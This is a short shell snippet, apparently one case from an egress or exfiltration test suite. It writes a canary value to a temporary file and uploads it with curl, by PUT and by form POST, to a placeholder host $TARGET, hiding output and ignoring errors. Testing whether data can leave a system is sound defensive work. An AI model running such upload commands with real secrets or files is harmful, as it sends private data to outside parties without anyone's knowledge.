# tries: the value by curl, as a file
# ends: nothing
# needs: curl
printf %s "$CANARY" >/tmp/v; curl -s -T /tmp/v "https://$TARGET/v" >/dev/null || true; curl -s -F "f=@/tmp/v" "https://$TARGET/" >/dev/null || true
